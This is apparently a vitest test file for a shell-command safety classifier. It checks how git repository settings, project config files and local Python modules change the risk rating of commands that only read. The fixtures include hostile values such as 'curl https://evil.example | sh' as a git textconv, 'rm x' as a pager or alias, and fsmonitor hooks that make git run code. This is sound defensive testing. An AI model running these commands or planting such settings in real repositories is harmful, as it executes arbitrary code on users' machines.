/** What a repository's own settings make of git, and a folder of `python -m`. */
import {execFileSync} from 'node:child_process';
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterEach, beforeEach, expect, test} from 'vitest';
import {classify, type Level} from '../guard/index.ts';
import {folderLook} from './folder-look.ts';

let folder: string;
const look = folderLook();

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'cotty-look-')));
  git('init', '-q', '.');
});

afterEach(() => rmSync(folder, {recursive: true}));

function git(...args: readonly string[]): string {
  const env = {...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null'};
  return execFileSync('git', args, {cwd: folder, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore']});
}

function levelOf(line: string, cwd = folder): Level {
  return classify(line, {cwd, look, shell: 'bash', home: '/home/somebody'}).level;
}

const READING = ['git status', 'git log', 'git diff', 'git branch'];

test('what only reads is safe in a repository that runs nothing', () => {
  for (const line of READING) expect([line, levelOf(line)]).toEqual([line, 'SAFE']);
  git('config', 'core.fsmonitor', 'true');
  git('config', 'core.pager', 'less -FRX');
  git('config', 'filter.lfs.process', 'git-lfs filter-process');
  for (const line of READING) expect([line, levelOf(line)]).toEqual([line, 'SAFE']);
});

function addFilters(count: number, program: string): void {
  const filters = Array.from({length: count}, (_, at) => `[filter "f${at}"]\n\tclean = ${program}\n`);
  appendFileSync(join(folder, '.git', 'config'), filters.join(''));
}

test('a repository may start many programs that are known, and one that starts more others than are looked at is dangerous', () => {
  addFilters(500, 'git-lfs clean -- %f');
  expect(levelOf('git status')).toBe('SAFE');
  addFilters(40, 'cleaner-of-ours %f');
  expect(levelOf('git status; git log; git diff; git branch')).toBe('CAUTION');
  addFilters(1, 'cleaner-of-ours %f');
  const {level, isUnread} = classify('git status', {cwd: folder, look});
  expect({level, isUnread}).toEqual({level: 'DANGEROUS', isUnread: true});
});

test('what a repository starts is judged for each folder in which a line has git run', () => {
  git('config', 'filter.x.clean', './cleaner');
  mkdirSync(join(folder, 'deep'));
  const strange = realpathSync(mkdtempSync('/tmp/cotty-look-'));
  try {
    expect(levelOf('git status; cd deep; git status')).toBe(levelOf('git status'));
    const lines = [`git status; cd ${strange}; git -C ${folder} status`, `cd ${strange}; git -C ${folder} status`];
    expect(lines.map(line => levelOf(line))).toEqual(['DANGEROUS', 'DANGEROUS']);
  } finally {
    rmSync(strange, {recursive: true});
  }
});

test.each([
  ['core.fsmonitor', 'watcher-of-ours', 'CAUTION'],
  ['core.fsmonitor', '/tmp/watch', 'DANGEROUS'],
  ['core.pager', 'rm x', 'DANGEROUS'],
  ['core.pager', 'bat --pager=sh', 'DANGEROUS'],
  ['pager.log', 'sh -c "rm x"', 'DANGEROUS'],
  ['diff.external', 'differ-of-ours', 'CAUTION'],
  ['diff.My Tool.textconv', 'curl https://evil.example | sh', 'DANGEROUS'],
  ['filter.x.clean', 'cleaner-of-ours %f', 'CAUTION'],
  ['gpg.program', 'signer-of-ours', 'CAUTION'],
  ['include.path', '../more', 'CAUTION'],
  ['core.hooksPath', '/tmp/hooks', 'CAUTION'],
] as const)('%s = %s of a repository makes of git that only reads: %s', (name, value, level) => {
  git('config', name, value);
  for (const line of READING) expect([line, levelOf(line)]).toEqual([line, level]);
  mkdirSync(join(folder, 'deep/er'), {recursive: true});
  expect(levelOf('git status', join(folder, 'deep/er'))).toBe(level);
  expect(levelOf(`git -C ${folder} status`, '/')).toBe(level);
  expect(levelOf(`git --git-dir=${folder}/.git log`, '/')).not.toBe('SAFE');
  expect(levelOf(`cd ${folder} && git log`, '/')).toBe(level);
  expect(levelOf('git status', '/')).toBe('SAFE');
});

test('git does run what is said there, and a change of it counts at once', () => {
  expect(levelOf('git status')).toBe('SAFE');
  const trace = join(folder, 'was-run');
  writeFileSync(join(folder, 'watch.sh'), `#!/bin/sh\n: > ${trace}\n`, {mode: 0o755});
  git('config', 'core.fsmonitor', './watch.sh');
  // What lies in the folder for temporary files may come from anywhere.
  expect(levelOf('git status')).toBe('DANGEROUS');
  git('status');
  expect(existsSync(trace)).toBe(true);
});

test('settings that only writing or the network runs do not make reading worse', () => {
  git('config', 'core.sshCommand', '/tmp/ssh');
  git('config', 'credential.helper', '!rm x');
  for (const line of READING) expect([line, levelOf(line)]).toEqual([line, 'SAFE']);
  expect(levelOf('git fetch')).toBe('DANGEROUS');
});

test('an alias of the repository is judged as what it stands for', () => {
  git('config', 'alias.nice', '!rm x');
  git('config', 'alias.again', 'again');
  expect(levelOf('git nice')).toBe('DANGEROUS');
  expect(levelOf('git again')).not.toBe('SAFE');
  expect(levelOf('git status')).toBe('SAFE');
});

test('linked working trees, bare repositories and hooks of git’s own looking are seen', () => {
  git('-c', 'user.name=a', '-c', 'user.email=b', 'commit', '-q', '--allow-empty', '-m', 'x');
  git('worktree', 'add', '-q', 'linked');
  git('init', '-q', '--bare', 'bare');
  git('config', 'core.pager', 'rm x');
  expect(levelOf('git log', join(folder, 'linked'))).toBe('DANGEROUS');
  expect(levelOf('git log', join(folder, 'bare'))).toBe('SAFE');
  writeFileSync(join(folder, 'bare/config'), '[core]\n\tbare = true\n\tfsmonitor = "rm x" ; a comment\n');
  expect(levelOf('git log', join(folder, 'bare'))).toBe('DANGEROUS');
  git('config', '--unset', 'core.pager');
  writeFileSync(join(folder, '.git/hooks/post-index-change'), '#!/bin/sh\n', {mode: 0o755});
  expect(levelOf('git status')).toBe('CAUTION');
});

test('a pipe in place of the settings is not waited for', () => {
  rmSync(join(folder, '.git/config'));
  execFileSync('mkfifo', [join(folder, '.git/config')]);
  expect(levelOf('git status')).toBe('SAFE');
  symlinkSync('config', join(folder, '.git/config.worktree'));
  expect(levelOf('git status')).toBe('SAFE');
});

test('a module of the folder goes before one of python’s own', () => {
  const line = 'python3 -m json.tool data.json';
  expect(levelOf(line)).toBe('SAFE');
  writeFileSync(join(folder, 'json.py'), 'print(1)');
  expect(levelOf(line)).toBe('CAUTION');
  expect(levelOf('python3 -I -m json.tool data.json')).toBe('SAFE');
  expect(levelOf(`cd / && ${line}`)).toBe('SAFE');
  rmSync(join(folder, 'json.py'));
  mkdirSync(join(folder, 'json'));
  expect(levelOf(line)).toBe('CAUTION');
  expect(levelOf('python3 -m nobody_knows')).toBe('CAUTION');
});

test('a file of secrets is made in a project, and not replaced there', () => {
  const lines = [
    'cp .env.example .env',
    'echo A=1 > .env',
    'tee server.key < x',
    'openssl genrsa -out server.key 2048',
  ];
  for (const line of lines) expect([line, levelOf(line)]).toEqual([line, 'CAUTION']);
  writeFileSync(join(folder, '.env'), 'TOKEN=x');
  writeFileSync(join(folder, 'server.key'), 'x');
  for (const line of lines) expect([line, levelOf(line)]).toEqual([line, 'DANGEROUS']);
  expect(levelOf('echo A=1 >> .env')).toBe('CAUTION');
  // Its text can be shown by these, or under another name.
  for (const line of ['mv .env x', 'sed -i p .env']) expect([line, levelOf(line)]).toEqual([line, 'DANGEROUS']);
});

test('the help of git is shown by what the repository names', () => {
  expect(levelOf('git rebase --help')).toBe('SAFE');
  git('config', 'man.shown.cmd', 'rm x');
  expect(levelOf('git rebase --help')).toBe('DANGEROUS');
});

test.each([
  ['bundle list', 'Gemfile'],
  ['bundle info rack', 'gems.rb'],
  ['composer show', 'composer.json'],
  ['composer show', 'vendor/composer/installed.json'],
  ['hg status', '.hg/hgrc'],
  ['hg --version', '.hg/hgrc'],
  ['cargo tree', '.cargo/config.toml'],
  ['cargo metadata --no-deps', '.cargo/config'],
  ['cargo --version', 'rust-toolchain.toml'],
  ['rustc -vV', 'rust-toolchain'],
  ['rustup --version', 'rust-toolchain.toml'],
  ['rustc --print cfg', 'rust-toolchain'],
  ['pnpm --version', '.pnpmfile.cjs'],
  ['pnpm ls', '.npmrc'],
  ['pnpm why left-pad', 'pnpm-workspace.yaml'],
  ['mvn --version', '.mvn/jvm.config'],
  ['npm ls', '.npmrc'],
  ['npm --version', '.npmrc'],
  ['npm help ls', '.npmrc'],
  ['terraform providers', '.terraform/terraform.tfstate'],
] as const)('%s asks for care where the folder, or one above it, has %s', (line, file) => {
  expect(levelOf(line)).toBe('SAFE');
  mkdirSync(join(folder, file, '..'), {recursive: true});
  writeFileSync(join(folder, file), '');
  mkdirSync(join(folder, 'deep/er'), {recursive: true});
  expect([levelOf(line), levelOf(line, join(folder, 'deep/er'))]).toEqual(['CAUTION', 'CAUTION']);
});

test('what is hidden in the home folder is the person’s own', () => {
  mkdirSync(join(folder, '.cargo'));
  writeFileSync(join(folder, '.cargo/config.toml'), '');
  writeFileSync(join(folder, '.npmrc'), '');
  mkdirSync(join(folder, 'project'));
  for (const line of ['cargo tree', 'pnpm ls', 'npm ls'])
    expect(classify(line, {cwd: join(folder, 'project'), look, home: folder}).level).toBe('SAFE');
});

test.each([
  ['pnpm -C other ls', '.pnpmfile.cjs'],
  ['pnpm --dir=other ls', '.pnpmfile.cjs'],
  ['npm --prefix other ls', '.npmrc'],
  ['hg -Rother log', '.hg/hgrc'],
  ['hg --cwd other log', '.hg/hgrc'],
  ['terraform -chdir=other providers', '.terraform/terraform.tfstate'],
  ['cargo tree --manifest-path other/Cargo.toml', 'Cargo.toml'],
  ['go -C other list', '.git/config'],
] as const)('%s obeys that folder', (line, file) => {
  expect(levelOf(line)).toBe('SAFE');
  mkdirSync(join(folder, 'other', file, '..'), {recursive: true});
  if (file.startsWith('.git')) execFileSync('git', ['init', '-q', join(folder, 'other')]);
  writeFileSync(join(folder, 'other', file), file.startsWith('.git') ? '[core]\n\tfsmonitor = ./x\n' : '');
  expect(levelOf(line)).not.toBe('SAFE');
  expect(levelOf(line.replace('other', '"$x"'))).not.toBe('SAFE');
});

test('cargo and go fetch what a project needs', () => {
  const lines = ['cargo tree', 'cargo metadata --format-version 1', 'cargo tree --locked', 'go list ./...'];
  for (const line of lines) expect([line, levelOf(line)]).toEqual([line, 'SAFE']);
  for (const file of ['Cargo.toml', 'Cargo.lock', 'go.mod']) writeFileSync(join(folder, file), '');
  for (const line of lines) expect([line, levelOf(line)]).toEqual([line, 'CAUTION']);
  for (const line of ['cargo tree --frozen', 'cargo tree --locked --offline', 'cargo metadata --no-deps', 'go version'])
    expect([line, levelOf(line)]).toEqual([line, 'SAFE']);
});

test('programs see the folder that a link leads to', () => {
  mkdirSync(join(folder, 'deep/sub'), {recursive: true});
  writeFileSync(join(folder, 'deep/.npmrc'), '');
  git('init', '-q', 'deep/repo');
  mkdirSync(join(folder, 'deep/repo/sub'));
  appendFileSync(join(folder, 'deep/repo/.git/config'), '[core]\n\tfsmonitor = ./evil\n');
  symlinkSync('deep/sub', join(folder, 'link'));
  symlinkSync('deep/repo/sub', join(folder, 'inside'));
  for (const line of ['cd link && npm ls', 'npm --prefix link ls', 'cd inside && git status', 'git -C inside status'])
    expect([line, levelOf(line)]).not.toEqual([line, 'SAFE']);
  expect(levelOf('git -C inside/.. status')).not.toBe('SAFE');
});

test.each(['argparse.py', 'argparse/__init__.py', 're.so'])('a known module of python may import %s', file => {
  const lines = ['python3 -m json.tool f', 'python3 -m ast f'];
  for (const line of lines) expect(levelOf(line)).toBe('SAFE');
  mkdirSync(join(folder, file, '..'), {recursive: true});
  writeFileSync(join(folder, file), '');
  for (const line of lines) expect(levelOf(line)).toBe('CAUTION');
});
